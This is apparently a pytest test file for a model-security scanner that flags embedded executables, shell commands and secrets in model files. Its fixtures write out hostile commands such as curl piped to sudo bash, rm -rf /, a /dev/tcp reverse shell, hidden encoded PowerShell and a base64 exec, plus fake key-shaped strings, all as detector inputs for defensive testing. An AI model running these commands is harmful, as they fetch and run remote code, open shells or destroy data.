"""Programs, commands and keys in the parts of a model."""

from __future__ import annotations

import struct
from pathlib import Path

import pytest
from mlsecops.models.embedded import ExecutableReader, in_text
from support.parts import read_with, reasons, rules

PROGRAMS = {
    "an ELF program": b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HH", 3, 62) + bytes(40),
    "a Windows program": b"MZ"
    + bytes(58)
    + struct.pack("<I", 64)
    + b"PE\0\0"
    + bytes([0x64, 0x86])
    + bytes(9),
    "a macOS program": b"\xcf\xfa\xed\xfe" + struct.pack("<III", 0x01000007, 3, 2) + bytes(9),
    "a WebAssembly module": b"\0asm\1\0\0\0",
    "a Java class": b"\xca\xfe\xba\xbe" + struct.pack(">HHH", 0, 61, 20),
    "a script": b"#!/usr/bin/env python3\nprint(1)\n",
}


@pytest.mark.parametrize("what", PROGRAMS)
def test_programs_are_known_by_their_headers(tmp_path: Path, what: str) -> None:
    found = read_with(tmp_path, PROGRAMS[what], ExecutableReader())
    assert [(fact.rule, fact.subject) for fact in found.facts.values()] == [("embedded-executable", what)]


@pytest.mark.parametrize(
    "data",
    [
        b"\x7fELF" + bytes(60),
        b"\x7fELF",
        b"MZ" + bytes(100),
        b"\xcf\xfa\xed\xfe" + bytes(20),
        b"\xca\xfe\xba\xbe\0\0\0\2\1\0\0\7",
        b"#! not a script",
        b"\0asm",
    ],
)
def test_what_only_begins_like_one_is_none(tmp_path: Path, data: bytes) -> None:
    assert reasons(read_with(tmp_path, data, ExecutableReader())) == ["nobody knows it"]


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL http://x.example/i | sudo bash",
        "wget -qO- x.example|sh",
        "rm -rf / && echo",
        "rm -fr ~/models",
        "chmod 777 /tmp/x",
        "bash <(curl x.example)",
        "powershell.exe -nop -w hidden -enc AAAA",
        "IEX (New-Object Net.WebClient)",
        "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
        "__import__('os').system('echo')",
        "import os; os.system('echo')",
        "exec(base64.b64decode(x))",
        "<script>alert(1)</script>",
    ],
)
def test_commands_in_texts(text: str) -> None:
    assert [fact.rule for fact in in_text(f"Note: {text}.")] == ["embedded-command"]


@pytest.mark.parametrize(
    "text",
    [
        "-----BEGIN RSA " + "PRIVATE KEY-----\n" + "A" * 64,
        "AKIA" + "ABCDEFGH" * 2,
        "gh" + "p_" + "a1" * 18,
        "hf_" + "aB" * 17,
        "xox" + "b-123456-abcdefghijk",
        "sk-" + "proj-" + "a1" * 20,
    ],
)
def test_keys_in_texts_are_told_without_them(text: str) -> None:
    (fact,) = in_text(f"key: {text} ")
    assert fact.rule == "embedded-secret"
    assert text not in fact.message


@pytest.mark.parametrize(
    "text",
    [
        "Trained with lr=0.1 on https://huggingface.co/datasets/x; see README.md",
        "os and subprocess are words; call the system | shut it down",
        "pip install transformers && python run.py",
        "AKIA is short, hf_ too, and -----BEGIN PUBLIC KEY----- is public",
        "def __init__(self): return eval(self.x)",
        "{'license': 'apache-2.0', 'tags': ['curl', 'bash']}",
    ],
)
def test_texts_of_models_are_no_fact(text: str) -> None:
    assert list(in_text(text)) == []


def test_a_script_among_readers(tmp_path: Path) -> None:
    assert rules(read_with(tmp_path, PROGRAMS["a script"], ExecutableReader())) == ["embedded-executable"]
